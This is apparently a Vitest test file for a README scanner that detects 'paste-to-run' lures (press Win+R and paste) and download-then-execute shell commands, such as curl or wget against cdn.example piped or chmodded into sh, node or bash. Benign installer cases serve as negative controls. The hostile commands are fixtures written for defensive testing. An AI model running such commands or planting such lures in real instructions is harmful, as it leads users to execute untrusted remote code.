import { expect, test } from 'vitest';
import { readInstructions } from '../../../src/core/instructions/documents/readInstructions.ts';

const found = (text: string) =>
  readInstructions({ path: 'README.md', language: 'markdown', text }).filter(({ told }) => told !== 'mention');

test.each([
  '<kbd>Win</kbd>+<kbd>R</kbd> and paste this',
  'Win+R, paste the following',
  'Open the Run dialog (Win+R), paste and press Enter.',
  'Hold Windows and press R, then paste.',
  'Hold the Windows key and press the letter R. Paste this.',
  '**Win** + **R**, paste the following',
  'Open the Run box and paste.',
  'Press Win+R and paste %temp%\\update.exe',
])('paste-to-run: %s', text => expect(found(text).map(({ family }) => family)).toContain('paste-to-run'));

test.each([
  'Press Win+R, type cmd and press Enter.',
  'Press Win+R and paste %appdata%\\models to see the folder.',
  'Works on Windows and R is not needed. You can paste JSON.',
  'It runs on Windows, R and Python; see below.',
  'Open the Run window of the IDE to see the log.',
])('no paste-to-run: %s', text => expect(found(text).map(({ family }) => family)).not.toContain('paste-to-run'));

const code = (text: string) => `# Setup\n\n\`\`\`sh\n${text}\n\`\`\`\n`;

test.each([
  'curl -o /tmp/a https://cdn.example/a; bash /tmp/a',
  'curl -LO https://cdn.example/run && chmod +x run && ./run',
  'wget https://cdn.example/x.sh\nsudo bash x.sh',
  'curl -fsSL https://cdn.example/x > x.sh\nchmod +x x.sh\n./x.sh',
  'curl -s https://cdn.example/x | sudo tee f && sh f',
  'curl -s https://cdn.example/x | base64 -d | node',
  'curl -s https://cdn.example/x | gunzip | sh',
])('fetched and run: %s', text =>
  expect(
    found(code(text)).filter(
      ({ family, mitigated }) => /^(?:pipe-to-shell|encoded-command)$/.test(family) && !mitigated,
    ),
  ).toHaveLength(1),
);

test.each([
  'curl -o model.gguf https://cdn.example/model.gguf; ./llama-cli -m model.gguf',
  'wget https://cdn.example/data.zip && unzip data.zip && bash train.sh',
  'curl -s https://cdn.example/key | sudo tee /etc/apt/keyrings/x.asc\nsudo apt-get update',
  'wget https://huggingface.co/a/b/resolve/main/c.llamafile\nchmod +x c.llamafile\n./c.llamafile',
  'wget https://repo.anaconda.com/miniconda/Miniconda3-latest-Linux-x86_64.sh\nbash Miniconda3-latest-Linux-x86_64.sh',
])('not accused: %s', text =>
  expect(found(code(text)).filter(({ family, mitigated }) => family === 'pipe-to-shell' && !mitigated)).toEqual([]),
);
